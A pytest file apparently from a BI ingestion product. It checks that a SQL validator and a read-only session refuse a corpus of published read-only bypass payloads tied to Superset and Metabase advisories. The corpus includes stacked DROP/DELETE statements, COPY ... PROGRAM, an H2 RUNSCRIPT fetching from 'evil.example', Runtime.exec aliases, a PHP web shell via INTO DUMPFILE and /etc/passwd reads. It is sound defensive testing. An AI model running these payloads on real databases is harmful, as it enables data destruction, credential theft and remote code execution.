"""User SQL (SQL sources) against the published ways around "read-only SQL" in BI tools.

The corpus below follows the bypasses published for Apache Superset's SQL Lab read-only
check and Metabase's database connections, plus the classic PostgreSQL and MySQL
injection payloads that those advisories build on (see
tests/ingestion/sources_sql/vetting_corpus.py for the general corpus of the vetting's own
tests). Each entry names the advisory or fix whose kind of bypass it is: most advisories
do not publish their exact payload, so the entries are of the shape each one describes
(a write in a CTE, a DO block, a large-object writer...), aimed at a table of the test's
own. Three things are checked:

1. Vetting refuses every entry, on every dialect it is written for, with a sentence.
2. With the validator switched off (`vet_query` replaced by a function that hands the
   text on as it is), a sync of the source runs the text on live PostgreSQL and MariaDB
   inside the statement Headway builds around it: every write is refused and the
   database is unchanged.
3. Straight on the read-only session (`run_read_only`, no vetting and no statement
   around it), every write is refused and the database is unchanged. Two kinds of entry
   are the documented exception on MySQL/MariaDB (docs/sql-sources.md): `SELECT ... INTO
   OUTFILE/DUMPFILE` writes a file outside the transaction, and `SET GLOBAL` is not
   transactional; they are run through 2. only, and need the FILE and SUPER privileges a
   reading user does not have.

Entries that write nothing (sleeping, reading the server's files, taking locks, changing
settings, reaching other servers) are for vetting alone: a read-only transaction does
not stop them, and running them would disturb the shared test servers.
"""

from __future__ import annotations

import secrets
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError
from sqlglot import exp

from headway.ingestion.sources.base import FetchContext, RowSink, SourceError
from headway.ingestion.sources.sql import SqlKind
from headway.ingestion.sources.sql import config as sql_config
from headway.ingestion.sources.sql import statement as sql_statement
from headway.ingestion.sources.sql.config import SqlConfig
from headway.ingestion.sources.sql.execute import run_read_only
from headway.ingestion.sources.sql.vetting import vet_query
from headway.lib.http import SafeHttpClient
from tests.ingestion.sources_sql import conftest as sql_conftest
from tests.ingestion.sources_sql.conftest import Live

live = sql_conftest.live  # the live PostgreSQL and MariaDB namespaces of the SQL tests

PG = ("postgres",)
MY = ("mysql",)
BOTH = ("postgres", "mysql")

# Where each entry is published. Superset's pull requests are the fixes of its SQL Lab
# read-only check ("is_mutating") and of DISALLOWED_SQL_FUNCTIONS.
SUPERSET_CTE = "Superset CVE-2023-40610: writes in a CTE"
SUPERSET_PG = "Superset CVE-2026-23984: PostgreSQL statements the read-only check missed"
SUPERSET_DO = "Superset apache/superset#34412: anonymous DO blocks on PostgreSQL"
SUPERSET_CMD = "Superset apache/superset#40421: PREPARE/EXECUTE/CALL/COPY/GRANT/SET/... "
SUPERSET_LO = "Superset apache/superset#40421: large-object writers called as functions"
SUPERSET_MY = "Superset apache/superset#44072: ATTACH/DETACH, MySQL REPLACE/RENAME/SET PASSWORD"
SUPERSET_FN = "Superset apache/superset#29454 and #33084: DISALLOWED_SQL_FUNCTIONS"
SUPERSET_PATH = "Superset apache/superset#43060: search_path through set_config"
SUPERSET_SQLITE = "Superset CVE-2023-39265: SQLite connections (ATTACH, PRAGMA)"
METABASE_H2 = "Metabase CVE-2023-38646: H2 connection payloads (RUNSCRIPT, CREATE ALIAS/TRIGGER)"
PG_COPY = "PostgreSQL CVE-2019-9193: COPY ... PROGRAM"
STACKED = "stacked statements, every SQL injection cheat sheet"
MYSQL_FILE = "MySQL INTO OUTFILE/DUMPFILE web shells, SQL injection cheat sheets"
MYSQL_UDF = "MySQL lib_mysqludf_sys (sys_exec) after a UDF upload"


@dataclass(frozen=True)
class Bypass:
    """One payload. In `sql`, {items} is a table of the test's namespace (with a row),
    {ns} the namespace, {seq} a sequence in it, {marker} a file path that must not
    appear. `kind` is "write" (the session must refuse it), "file" (a MySQL file write:
    refused by the statement around the query, see the module's docstring) or
    "effect" (writes nothing: vetting alone)."""

    name: str
    sql: str
    source: str
    dialects: tuple[str, ...] = BOTH
    kind: str = "write"

    def text(self, names: dict[str, str]) -> str:
        return self.sql.format(**names)


CORPUS: list[Bypass] = [
    # Several statements, the second one writing.
    Bypass("stacked delete", "SELECT 1; DELETE FROM {items}", STACKED),
    Bypass("stacked drop", "SELECT * FROM {items}; DROP TABLE {items}", STACKED),
    Bypass("stacked after a comment", "SELECT 1 /* ; */; UPDATE {items} SET name = 'x'", STACKED),
    Bypass("stacked commit then write", "SELECT 1; COMMIT; DELETE FROM {items}", SUPERSET_PG),
    Bypass(
        "stacked read write",
        "SELECT 1; SET TRANSACTION READ WRITE; DELETE FROM {items}",
        SUPERSET_PG,
    ),
    # Writes hidden in a CTE or a SELECT.
    Bypass(
        "cte delete",
        "WITH gone AS (DELETE FROM {items} RETURNING *) SELECT * FROM gone",
        SUPERSET_CTE,
        PG,
    ),
    Bypass(
        "cte update",
        "WITH x AS (UPDATE {items} SET name = 'x' RETURNING id) SELECT count(*) FROM x",
        SUPERSET_CTE,
        PG,
    ),
    Bypass(
        "cte insert",
        "WITH x AS (INSERT INTO {items} (id, name) VALUES (997, 'x') RETURNING 1) SELECT 1",
        SUPERSET_CTE,
        PG,
    ),
    Bypass(
        "cte that first turns read-only off",
        "WITH a AS (SELECT set_config('transaction_read_only', 'off', false)), "
        "d AS (DELETE FROM {items} RETURNING 1) SELECT * FROM a, d",
        SUPERSET_PG,
        PG,
    ),
    Bypass("select into a table", "SELECT * INTO {ns}.pwned FROM {items}", SUPERSET_PG, PG),
    Bypass("create table as", "CREATE TABLE {ns}.pwned AS SELECT * FROM {items}", SUPERSET_PG),
    Bypass(
        "explain analyze runs the delete",
        "EXPLAIN ANALYZE DELETE FROM {items}",
        SUPERSET_PG,
        PG,
    ),
    Bypass("select for update", "SELECT * FROM {items} FOR UPDATE", SUPERSET_PG),
    Bypass("nextval", "SELECT nextval('{seq}')", SUPERSET_FN, PG),
    Bypass("setval", "SELECT setval('{seq}', 100)", SUPERSET_FN, PG),
    Bypass("mariadb nextval", "SELECT nextval({seq})", SUPERSET_FN, MY),
    Bypass("mariadb next value for", "SELECT NEXT VALUE FOR {seq}", SUPERSET_FN, MY),
    # Statements that write.
    Bypass("insert", "INSERT INTO {items} (id, name) VALUES (999, 'intruder')", STACKED),
    Bypass("update", "UPDATE {items} SET name = 'changed'", STACKED),
    Bypass("delete", "DELETE FROM {items}", STACKED),
    Bypass(
        "merge",
        "MERGE INTO {items} t USING {items} s ON t.id = s.id WHEN MATCHED THEN DELETE",
        SUPERSET_PG,
        PG,
    ),
    Bypass("replace", "REPLACE INTO {items} (id, name) VALUES (1, 'replaced')", SUPERSET_MY, MY),
    Bypass("rename table", "RENAME TABLE {items} TO {ns}.renamed", SUPERSET_MY, MY),
    Bypass("truncate", "TRUNCATE TABLE {items}", STACKED),
    Bypass("drop", "DROP TABLE {items}", STACKED),
    Bypass("alter", "ALTER TABLE {items} ADD COLUMN pwned INTEGER", STACKED),
    Bypass("create index", "CREATE INDEX pwned_idx ON {items} (name)", SUPERSET_CMD),
    Bypass("create temporary table", "CREATE TEMPORARY TABLE pwned (a INTEGER)", SUPERSET_PG),
    Bypass("create view", "CREATE VIEW {ns}.pwned AS SELECT 1 AS a", SUPERSET_PG),
    Bypass("create schema", "CREATE SCHEMA {ns}_pwned", SUPERSET_PG),
    Bypass("create role", "CREATE ROLE {ns}_role", SUPERSET_CMD, PG),
    Bypass("create user", "CREATE USER '{ns}_user'@'localhost'", SUPERSET_MY, MY),
    Bypass("grant", "GRANT SELECT ON {items} TO PUBLIC", SUPERSET_CMD, PG),
    Bypass("mysql grant", "GRANT SELECT ON {items} TO 'root'@'localhost'", SUPERSET_CMD, MY),
    Bypass("revoke", "REVOKE SELECT ON {items} FROM PUBLIC", SUPERSET_CMD, PG),
    Bypass("comment on", "COMMENT ON TABLE {items} IS 'pwned'", SUPERSET_PG, PG),
    Bypass("reindex", "REINDEX TABLE {items}", SUPERSET_CMD, PG),
    Bypass("vacuum", "VACUUM {items}", SUPERSET_CMD, PG),
    Bypass("lock table", "LOCK TABLE {items} IN ACCESS EXCLUSIVE MODE", SUPERSET_PG, PG),
    Bypass("lock tables", "LOCK TABLES {items} WRITE", SUPERSET_PG, MY),
    Bypass("do block", "DO $$ BEGIN DELETE FROM {items}; END $$", SUPERSET_DO, PG),
    Bypass(
        "do block with dynamic sql",
        "DO $$ BEGIN EXECUTE 'DROP TABLE ' || '{items}'; END $$",
        SUPERSET_DO,
        PG,
    ),
    Bypass("prepare", "PREPARE pwn AS DELETE FROM {items}", SUPERSET_CMD, PG),
    Bypass("mysql prepare", "PREPARE pwn FROM 'DELETE FROM {items}'", SUPERSET_CMD, MY),
    Bypass("call a procedure that writes", "CALL {ns}.sneaky()", SUPERSET_CMD),
    Bypass(
        "create function",
        "CREATE FUNCTION {ns}.f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
        SUPERSET_PG,
        PG,
    ),
    Bypass(
        "create event",
        "CREATE EVENT {ns}.e ON SCHEDULE EVERY 1 DAY DO DELETE FROM {items}",
        SUPERSET_MY,
        MY,
    ),
    Bypass("copy from program", "COPY {items} FROM PROGRAM 'echo 996,x'", PG_COPY, PG),
    Bypass("copy to program", "COPY (SELECT 1) TO PROGRAM 'touch {marker}'", PG_COPY, PG),
    Bypass("copy to a file", "COPY {items} TO '{marker}'", SUPERSET_CMD, PG),
    Bypass("lo_import", "SELECT lo_import('/etc/hostname')", SUPERSET_LO, PG),
    Bypass("lo_from_bytea", "SELECT lo_from_bytea(0, '\\x00'::bytea)", SUPERSET_LO, PG),
    Bypass("lo_create", "SELECT lo_create(0)", SUPERSET_LO, PG),
    Bypass(
        "load data infile",
        "LOAD DATA INFILE '/etc/hostname' INTO TABLE {items}",
        SUPERSET_MY,
        MY,
    ),
    Bypass("sqlite attach", "ATTACH DATABASE '{marker}' AS pwned", SUPERSET_SQLITE),
    Bypass("sqlite pragma", "PRAGMA writable_schema = 1", SUPERSET_SQLITE),
    Bypass("h2 runscript", "RUNSCRIPT FROM 'http://evil.example/pwn.sql'", METABASE_H2),
    Bypass(
        "h2 create alias",
        "CREATE ALIAS SHELLEXEC AS $$ String shellexec(String cmd) throws java.io.IOException "
        '{{ java.lang.Runtime.getRuntime().exec(cmd); return "x"; }} $$',
        METABASE_H2,
    ),
    Bypass(
        "h2 javascript trigger",
        "CREATE TRIGGER pwn BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS "
        "$$//javascript\njava.lang.Runtime.getRuntime().exec('touch {marker}')$$",
        METABASE_H2,
    ),
    # MySQL file writes: outside the transaction (see the module's docstring).
    Bypass("into outfile", "SELECT * FROM {items} INTO OUTFILE '{marker}'", MYSQL_FILE, MY, "file"),
    Bypass(
        "into dumpfile web shell",
        "SELECT '<?php system($_GET[1]); ?>' INTO DUMPFILE '{marker}'",
        MYSQL_FILE,
        MY,
        "file",
    ),
    Bypass(
        "into outfile in a union",
        "SELECT id FROM {items} UNION SELECT 1 INTO OUTFILE '{marker}'",
        MYSQL_FILE,
        MY,
        "file",
    ),
    # Effects that are not writes: vetting alone.
    Bypass("pg_sleep", "SELECT pg_sleep(10)", SUPERSET_FN, PG, "effect"),
    Bypass("sleep", "SELECT sleep(10)", SUPERSET_FN, MY, "effect"),
    Bypass("benchmark", "SELECT benchmark(100000000, md5('x'))", SUPERSET_FN, MY, "effect"),
    Bypass("pg_read_file", "SELECT pg_read_file('/etc/passwd')", SUPERSET_FN, PG, "effect"),
    Bypass("pg_ls_dir", "SELECT * FROM pg_ls_dir('/')", SUPERSET_FN, PG, "effect"),
    Bypass("load_file", "SELECT load_file('/etc/passwd')", SUPERSET_FN, MY, "effect"),
    Bypass("lo_export", "SELECT lo_export(16384, '{marker}')", SUPERSET_LO, PG, "effect"),
    Bypass(
        "query_to_xml runs text",
        "SELECT query_to_xml('DELETE FROM {items} RETURNING *', true, true, '')",
        SUPERSET_FN,
        PG,
        "effect",
    ),
    Bypass(
        "crosstab runs text",
        "SELECT * FROM crosstab('SELECT pg_read_file(''/etc/passwd''), 1, 2') AS t(a text, b int)",
        SUPERSET_FN,
        PG,
        "effect",
    ),
    Bypass(
        "connectby runs text",
        "SELECT * FROM connectby('{items}', 'id', 'name', '1', 0) AS t(a int, b int, c int)",
        SUPERSET_FN,
        PG,
        "effect",
    ),
    Bypass(
        "dblink_exec",
        "SELECT dblink_exec('dbname=test', 'DELETE FROM {items}')",
        SUPERSET_FN,
        PG,
        "effect",
    ),
    Bypass(
        "set_config search_path",
        "SELECT set_config('search_path', 'evil', false)",
        SUPERSET_PATH,
        PG,
        "effect",
    ),
    Bypass("set search_path", "SET search_path = evil", SUPERSET_PATH, PG, "effect"),
    Bypass(
        "set session read write",
        "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
        SUPERSET_CMD,
        PG,
        "effect",
    ),
    Bypass(
        "mysql set session read write",
        "SET SESSION TRANSACTION READ WRITE",
        SUPERSET_CMD,
        MY,
        "effect",
    ),
    Bypass("set global", "SET GLOBAL max_connections = 1", SUPERSET_CMD, MY, "effect"),
    Bypass(
        "set password",
        "SET PASSWORD FOR 'root'@'localhost' = PASSWORD('x')",
        SUPERSET_MY,
        MY,
        "effect",
    ),
    Bypass("install soname", "INSTALL SONAME 'ha_blackhole'", MYSQL_UDF, MY, "effect"),
    Bypass("sys_exec", "SELECT sys_exec('id')", MYSQL_UDF, MY, "effect"),
    Bypass("pg_advisory_lock", "SELECT pg_advisory_lock(1)", SUPERSET_FN, PG, "effect"),
    Bypass("get_lock", "SELECT get_lock('x', 100)", SUPERSET_FN, MY, "effect"),
    Bypass(
        "pg_terminate_backend",
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
        SUPERSET_FN,
        PG,
        "effect",
    ),
    Bypass("pg_reload_conf", "SELECT pg_reload_conf()", SUPERSET_FN, PG, "effect"),
    Bypass("pg_stat_reset", "SELECT pg_stat_reset()", SUPERSET_FN, PG, "effect"),
    Bypass(
        "pg_logical_emit_message",
        "SELECT pg_logical_emit_message(true, 'a', 'b')",
        SUPERSET_FN,
        PG,
        "effect",
    ),
    Bypass(
        "executable comment",
        "SELECT /*!50000 sleep(10) */ 1",
        SUPERSET_FN,
        MY,
        "effect",
    ),
    Bypass(
        "hint lifting the time limit",
        "SELECT /*+ SET_VAR(max_execution_time=0) */ * FROM {items}",
        SUPERSET_FN,
        MY,
        "effect",
    ),
    Bypass("mysql do", "DO sleep(10)", SUPERSET_CMD, MY, "effect"),
    Bypass("commit", "COMMIT", SUPERSET_PG, BOTH, "effect"),
]

NAMES = {"items": "sales.items", "ns": "sales", "seq": "sales.counter", "marker": "/tmp/x"}
DIALECT_OF = {"postgres": "postgres", "mariadb": "mysql"}


def entries(dialect: str, *kinds: str) -> list[Bypass]:
    return [entry for entry in CORPUS if dialect in entry.dialects and entry.kind in kinds]


def test_the_corpus_is_as_big_as_promised_and_every_entry_names_its_source() -> None:
    assert len(CORPUS) >= 80
    assert len({entry.name for entry in CORPUS}) == len(CORPUS)
    assert all(entry.source and entry.kind in ("write", "file", "effect") for entry in CORPUS)
    assert len(entries("postgres", "write")) >= 35
    assert len(entries("mysql", "write", "file")) >= 25


@pytest.mark.parametrize("dialect", ["postgres", "mysql"])
def test_vetting_refuses_every_payload_with_a_sentence(dialect: str) -> None:
    accepted, badly = [], []
    for entry in CORPUS:
        if dialect not in entry.dialects:
            continue
        try:
            vet_query(entry.text(NAMES), dialect)
        except SourceError as error:
            if not str(error) or "Traceback" in str(error):
                badly.append(entry.name)
        else:
            accepted.append(entry.name)
    assert accepted == []
    assert badly == []


def test_a_source_configured_with_any_payload_is_refused_as_invalid() -> None:
    """The settings a person saves (web, API) are validated the same way."""
    accepted = []
    schemes = {"postgres": "postgresql", "mysql": "mariadb"}
    for entry in CORPUS:
        for scheme in (schemes[dialect] for dialect in entry.dialects):
            try:
                SqlConfig.model_validate(
                    {"url": f"{scheme}://reader@db.example/sales", "query": entry.text(NAMES)}
                )
            except ValidationError:
                continue
            accepted.append((scheme, entry.name))
    assert accepted == []


# Live, with the validator switched off -------------------------------------------------


def unchecked(sql: str, dialect: str) -> exp.Expr:
    """`vet_query` switched off: the text goes on as it is, unparsed and unchecked."""
    return exp.Command(this=sql)


@pytest.fixture
def no_validator(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sql_config, "vet_query", unchecked)
    monkeypatch.setattr(sql_statement, "vet_query", unchecked)


@dataclass
class Target:
    """The live namespace filled for the corpus, and what it holds."""

    live: Live
    names: dict[str, str]
    marker: Path

    def state(self) -> dict[str, Any]:
        """Everything a payload could have written: the namespace's objects and rows,
        the sequence, large objects, and roles, users, schemas and databases named
        after the namespace; whether the marker file exists."""
        live, ns = self.live, self.live.namespace
        items = live.qualified("items")
        found: dict[str, Any] = {
            "tables": sorted(live.tables()),
            "rows": sorted(live.rows(f"SELECT * FROM {items}")),
            "marker": self.marker.exists(),
        }
        if live.kind == "postgres":
            found["sequence"] = live.rows(f"SELECT last_value, is_called FROM {ns}.counter")
            found["large objects"] = live.rows("SELECT count(*) FROM pg_largeobject_metadata")
            found["roles"] = live.rows(f"SELECT rolname FROM pg_roles WHERE rolname LIKE '{ns}%'")
            found["schemas"] = live.rows(
                f"SELECT nspname FROM pg_namespace WHERE nspname LIKE '{ns}%' ORDER BY 1"
            )
            found["functions"] = live.rows(
                "SELECT proname FROM pg_proc p JOIN pg_namespace n ON n.oid = p.pronamespace "
                f"WHERE nspname = '{ns}' ORDER BY 1"
            )
            found["comment"] = live.rows(f"SELECT obj_description('{items}'::regclass)")
            found["indexes"] = live.rows(
                f"SELECT indexname FROM pg_indexes WHERE schemaname = '{ns}' ORDER BY 1"
            )
        else:
            found["sequence"] = live.rows(f"SELECT next_not_cached_value FROM {ns}.counter")
            found["users"] = live.rows(f"SELECT user FROM mysql.user WHERE user LIKE '{ns}%'")
            found["databases"] = live.rows(f"SHOW DATABASES LIKE '{ns}%'")
            found["routines"] = live.rows(
                "SELECT routine_name FROM information_schema.routines "
                f"WHERE routine_schema = '{ns}' ORDER BY 1"
            )
            found["events"] = live.rows(
                f"SELECT event_name FROM information_schema.events WHERE event_schema = '{ns}'"
            )
            found["indexes"] = live.rows(f"SHOW INDEX FROM {items}")
        return found

    def clean(self) -> None:
        """Drops what a payload might have made outside the namespace."""
        live, ns = self.live, self.live.namespace
        self.marker.unlink(missing_ok=True)
        if live.kind == "postgres":
            live.run(f"DROP SCHEMA IF EXISTS {ns}_pwned CASCADE")
            live.run(f"DROP ROLE IF EXISTS {ns}_role")
        else:
            live.run(f"DROP DATABASE IF EXISTS {ns}_pwned")
            live.run(f"DROP USER IF EXISTS '{ns}_user'@'localhost'")


@pytest.fixture
def target(live: Live, tmp_path: Path) -> Iterator[Target]:
    ns = live.namespace
    items = live.qualified("items")
    live.run(f"CREATE TABLE {items} (id INTEGER PRIMARY KEY, name VARCHAR(50))")
    live.run(f"INSERT INTO {items} VALUES (1, 'one'), (2, 'two')")
    live.run(f"CREATE SEQUENCE {ns}.counter")
    if live.kind == "postgres":
        live.run(
            f"CREATE PROCEDURE {ns}.sneaky() LANGUAGE sql "
            f"AS $$ INSERT INTO {items} (id, name) VALUES (998, 'via procedure') $$"
        )
    else:
        live.run(
            f"CREATE PROCEDURE {ns}.sneaky() "
            f"INSERT INTO {items} (id, name) VALUES (998, 'via procedure')"
        )
    marker = Path("/tmp") / f"{ns}-{secrets.token_hex(4)}-pwned"
    names = {"items": items, "ns": ns, "seq": f"{ns}.counter", "marker": str(marker)}
    found = Target(live=live, names=names, marker=marker)
    try:
        yield found
    finally:
        found.clean()


# PostgreSQL lets these large-object functions run in a read-only transaction: the
# object made exists only inside it, and the session never commits, so nothing is kept.
# (Vetting refuses them: lo_import also reads a server file into the object.)
RUN_BUT_NOT_KEPT = {"postgres": {"lo_import", "lo_from_bytea", "lo_create"}, "mariadb": set()}


def outcome(target: Target, entry: Bypass, attempt: Callable[[str], None]) -> str:
    """Runs the payload: "refused" (a SourceError, nothing changed), "not kept" (it ran,
    nothing changed), or what it changed."""
    before = target.state()
    result = "not kept"
    try:
        attempt(entry.text(target.names))
    except SourceError as error:
        result = "refused" if "Traceback" not in str(error) else f"refused badly: {error}"
    after = target.state()
    if after != before:
        changed = {key: (before[key], after[key]) for key in before if before[key] != after[key]}
        return f"changed {changed}"
    return result


def test_with_the_validator_off_a_sync_refuses_every_write_and_changes_nothing(
    target: Target, no_validator: None, tmp_path: Path
) -> None:
    live = target.live
    context = FetchContext(http=SafeHttpClient(), source_name="Sales DB", statement_timeout=5)

    def sync(text: str) -> None:
        with RowSink(tmp_path / f"rows-{secrets.token_hex(4)}.jsonl", max_rows=100) as sink:
            SqlKind().fetch(live.config(query=text), live.secrets, None, sink, context)

    tried = entries(DIALECT_OF[live.kind], "write", "file")
    results = {entry.name: outcome(target, entry, sync) for entry in tried}
    assert {name: result for name, result in results.items() if result != "refused"} == {
        name: "not kept" for name in RUN_BUT_NOT_KEPT[live.kind]
    }
    assert len(tried) >= 25


def test_straight_on_the_read_only_session_every_write_is_refused_and_changes_nothing(
    target: Target,
) -> None:
    live = target.live

    def run(text: str) -> None:
        run_read_only(
            live.endpoint(),
            text,
            timeout=5,
            source_name="Sales DB",
            on_columns=lambda names: None,
            on_row=lambda values: None,
        )

    tried = entries(DIALECT_OF[live.kind], "write")
    results = {entry.name: outcome(target, entry, run) for entry in tried}
    assert {name: result for name, result in results.items() if result != "refused"} == {
        name: "not kept" for name in RUN_BUT_NOT_KEPT[live.kind]
    }
    assert len(tried) >= 25


def test_the_check_sees_a_write_made_outside_the_read_only_session(target: Target) -> None:
    """The control: the same payloads run by the administrator do change the state."""
    control = Bypass("control", "UPDATE {items} SET name = 'changed'", STACKED)
    assert outcome(target, control, target.live.run).startswith("changed")
    ddl = Bypass("control ddl", "CREATE TABLE {ns}.pwned (a INTEGER)", STACKED)
    assert outcome(target, ddl, target.live.run).startswith("changed")
